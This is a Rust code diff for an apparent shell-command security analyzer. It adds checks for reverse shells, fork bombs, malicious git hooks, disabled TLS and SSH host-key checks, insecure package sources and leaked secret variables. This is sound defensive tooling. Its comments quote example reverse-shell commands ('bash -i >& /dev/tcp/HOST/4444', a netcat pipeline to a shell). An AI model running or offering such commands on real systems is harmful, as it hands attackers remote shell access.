@@ -80,6 +80,11 @@ pub struct Engine<'a> {
     /// The command line loaded an env file (`source .env`, `export $(cat .env)`):
     /// variables it did not set may hold the file's secrets.
     env_file_loaded: bool,
+    /// A redirection of the current command points at `/dev/tcp/HOST/...` off this machine.
+    socket_redirect: Option<String>,
+    /// What the stages of the current pipeline are: a network client, a shell.
+    pipe_net: bool,
+    pipe_shell: bool,
 }
 
 impl<'a> Engine<'a> {
@@ -105,6 +110,9 @@ impl<'a> Engine<'a> {
             capturing: 0,
             printed_credential: None,
             env_file_loaded: false,
+            socket_redirect: None,
+            pipe_net: false,
+            pipe_shell: false,
         }
     }
 
@@ -163,14 +171,30 @@ impl<'a> Engine<'a> {
 
     pub fn script(&mut self, s: &Script, stdin: &Output) -> Output {
         let mut last = Output::default();
-        let mut acc = 0u8;
+        let mut acc = 0u16;
         for p in &s.pipelines {
             if self.commands > MAX_COMMANDS {
                 break;
             }
             let mut input = stdin.clone();
+            let saved = (self.pipe_net, self.pipe_shell);
+            (self.pipe_net, self.pipe_shell) = (false, false);
             for stage in &p.stages {
                 input = self.stage(stage, &input);
+            }
+            // `cat /tmp/f | sh -i 2>&1 | nc HOST 4444 > /tmp/f`
+            if p.stages.len() > 1 && self.pipe_net && self.pipe_shell {
+                rules::reverse_shell::report(
+                    &mut self.out,
+                    "a pipeline joining a shell and a network client",
+                );
+            }
+            (self.pipe_net, self.pipe_shell) = saved;
+            if input.taint & taint::ENV_VAR != 0
+                && input.taint & taint::CRED_PRINT == 0
+                && self.capturing == 0
+            {
+                rules::print_secret_variable::report(&mut self.out, "the command");
             }
             if input.taint & taint::CRED_PRINT != 0 && self.capturing == 0 {
                 let what = self.printed_credential.unwrap_or("a credential");
@@ -226,6 +250,12 @@ impl<'a> Engine<'a> {
                 }
             }
             Stage::Function { name, body } => {
+                if rules::fork_bomb::is_fork_bomb(name, body) {
+                    rules::fork_bomb::report(
+                        &mut self.out,
+                        &format!("the function {name}, which starts two copies of itself,"),
+                    );
+                }
                 self.script(body, &Output::default());
                 if self.functions.len() < 64 {
                     self.functions.insert(name.clone(), body.clone());
@@ -242,6 +272,7 @@ impl<'a> Engine<'a> {
                 Redirect::Read(w) => {
                     let ws = self.expand_word(w);
                     if let Some(w) = ws.first() {
+                        self.note_socket(&w.text);
                         if w.taint & (taint::DOWNLOAD | taint::DECODED) != 0 {
                             stdin = Output {
                                 text: None,
@@ -279,6 +310,7 @@ impl<'a> Engine<'a> {
                 Redirect::Write { target, append } => {
                     let ws = self.expand_word(target);
                     if let Some(w) = ws.first() {
+                        self.note_socket(&w.text);
                         crate::effects::check_redirect_write(self, &w.text, *append);
                         let r = paths::resolve(
                             &w.text,
@@ -312,6 +344,15 @@ impl<'a> Engine<'a> {
             }
         }
         stdin
+    }
+
+    /// Remember a redirection to `/dev/tcp/HOST/PORT` on another machine.
+    fn note_socket(&mut self, text: &str) {
+        if let Some(host) = rules::reverse_shell::dev_socket_host(text)
+            && !rules::reverse_shell::is_loopback_host(host)
+        {
+            self.socket_redirect = Some(host.to_string());
+        }
     }
 
     pub fn expand_word(&mut self, w: &RawWord) -> Vec<Word> {
@@ -382,10 +423,27 @@ impl<'a> Engine<'a> {
             argv.extend(self.expand_word(w));
         }
         self.pending_writes.clear();
+        self.socket_redirect = None;
         let stdin = self.redirects(&c.redirects, stdin.clone());
         let writes = std::mem::take(&mut self.pending_writes);
         for (name, value) in &env {
             rules::tls_verification_disabled::check_env(name, &value.text, false, &mut self.out);
+            rules::history_tampering::check_assignment(name, &value.text, &mut self.out);
+            rules::ssh_host_key_check_disabled::check_assignment(name, &value.text, &mut self.out);
+            rules::insecure_package_source::check_env(name, &value.text, &mut self.out);
+        }
+        // `bash -i >& /dev/tcp/HOST/4444 0>&1`, `exec 5<>/dev/tcp/HOST/80`
+        if let Some(host) = self.socket_redirect.take() {
+            let prog = argv
+                .first()
+                .map(|w| unwrap::command_name(&w.text))
+                .unwrap_or_default();
+            if prog == "exec" || unwrap::is_shell(&prog) || unwrap::interpreter(&prog).is_some() {
+                rules::reverse_shell::report(
+                    &mut self.out,
+                    &format!("{prog} with its input or output on a socket to {host}"),
+                );
+            }
         }
         if argv.is_empty() {
             for (n, v) in env {
@@ -396,6 +454,12 @@ impl<'a> Engine<'a> {
         let out = self.run(argv, &env, &stdin);
         if let Some(text) = &out.text {
             self.remember_writes(&writes, text);
+            for w in &writes {
+                rules::insecure_package_source::check_config_text(w, text, &mut self.out);
+            }
+        }
+        for w in &writes {
+            self.check_git_hook(w);
         }
         // `curl URL > i.sh`: the file now holds downloaded code, so `./i.sh`, `sh i.sh`
         // or `. i.sh` later runs it
@@ -486,6 +550,19 @@ impl<'a> Engine<'a> {
             }
             return unknown();
         }
+        {
+            let cwd = self.cwd.clone();
+            let c = Cmd {
+                name: &name,
+                args: &argv[1..],
+                env,
+                cwd: &cwd,
+                cx: self.cx,
+                stdin,
+                links: &[],
+            };
+            rules::check_before_unwrap(&c, &mut self.out);
+        }
         match unwrap::unwrap(&name, &argv[1..], stdin, self) {
             unwrap::Unwrapped::Inner {
                 argv: inner,
@@ -508,6 +585,11 @@ impl<'a> Engine<'a> {
                 taint: t,
                 args,
             } => {
+                // a package manager running project scripts is still checked itself
+                // (`npm ci --registry http://...`, packages it installs)
+                if matches!(name.as_str(), "npm" | "yarn" | "pnpm" | "bun") {
+                    self.leaf(&name, &argv[1..], env, stdin);
+                }
                 self.code_taint(t, &name);
                 if t & (taint::DOWNLOAD | taint::DECODED) != 0 && text.contains(words::DYNAMIC) {
                     return unknown();
@@ -526,6 +608,9 @@ impl<'a> Engine<'a> {
                 o
             }
             unwrap::Unwrapped::Stdin { lang } => {
+                if lang == interp::Lang::Shell {
+                    self.pipe_shell = true;
+                }
                 self.consume_stdin(&name, lang, stdin);
                 unknown()
             }
@@ -592,6 +677,28 @@ impl<'a> Engine<'a> {
             }
             unwrap::Unwrapped::NoExec => Output::default(),
             unwrap::Unwrapped::NotWrapper => self.leaf(&name, &argv[1..], env, stdin),
+        }
+    }
+
+    /// A git hook in the project written or made executable: judged by what it runs.
+    pub fn check_git_hook(&mut self, path: &std::path::Path) {
+        let hooks = self.cx.project_root.join(".git/hooks");
+        if !path.starts_with(&hooks) || path == hooks {
+            return;
+        }
+        let Some(content) = self.project_file(path) else {
+            return;
+        };
+        if let Some(why) = crate::git_hook_risk(&content, self.cx) {
+            self.out.add(
+                rules::persistence_or_system_write::PersistenceOrSystemWrite::ID,
+                Tier::High,
+                format!(
+                    "the git hook {} {why}; it would run on every commit or checkout",
+                    path.display()
+                ),
+                "keep git hooks to local checks (formatters, linters, tests)",
+            );
         }
     }
 
@@ -677,7 +784,7 @@ impl<'a> Engine<'a> {
     }
 
     /// Report code that came from a download or a decoder.
-    fn code_taint(&mut self, t: u8, via: &str) {
+    fn code_taint(&mut self, t: u16, via: &str) {
         if t & taint::DOWNLOAD != 0 {
             self.out.add(
                 RemoteCodeExecution::ID,
@@ -758,6 +865,12 @@ impl<'a> Engine<'a> {
                         if !n.is_empty() && n.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                         {
                             rules::tls_verification_disabled::check_env(n, v, true, &mut self.out);
+                            rules::ssh_host_key_check_disabled::check_assignment(
+                                n,
+                                v,
+                                &mut self.out,
+                            );
+                            rules::insecure_package_source::check_env(n, v, &mut self.out);
                             let mut val = Word {
                                 text: v.to_string(),
                                 taint: w.taint,
@@ -796,6 +909,19 @@ impl<'a> Engine<'a> {
         }
         if let Some(what) = crate::credentials::printed_by(name, args) {
             self.printed_credential = Some(what);
+        }
+        if rules::reverse_shell::is_network_client(name, args) {
+            self.pipe_net = true;
+        }
+        if unwrap::is_shell(name) {
+            self.pipe_shell = true;
+        }
+        if matches!(name, "chmod" | "ln" | "cp" | "mv" | "install") {
+            for w in args.iter().filter(|w| !w.text.starts_with('-')) {
+                let p =
+                    paths::resolve(&w.text, &self.cwd, &self.cx.home, &self.cx.project_root).path;
+                self.check_git_hook(&p);
+            }
         }
         if let Some(p) = packages::parse(name, args)
             && !p.packages.is_empty()
@@ -918,10 +1044,13 @@ impl Expander for Ex<'_, '_> {
             _ => None,
         }
     }
-    fn unset_taint(&self) -> u8 {
-        // after `source .env`, `$API_KEY` may be one of its secrets
+    fn unset_taint(&self, name: &str) -> u16 {
+        // after `source .env`, `$API_KEY` may be one of its secrets; a name like
+        // GITHUB_TOKEN says what it holds wherever it comes from
         if self.e.env_file_loaded {
             taint::SECRET | taint::ENV_VAR
+        } else if rules::print_secret_variable::secret_name(name) {
+            taint::SECRET | taint::ENV_VAR | taint::NAMED_SECRET
         } else {
             0
         }
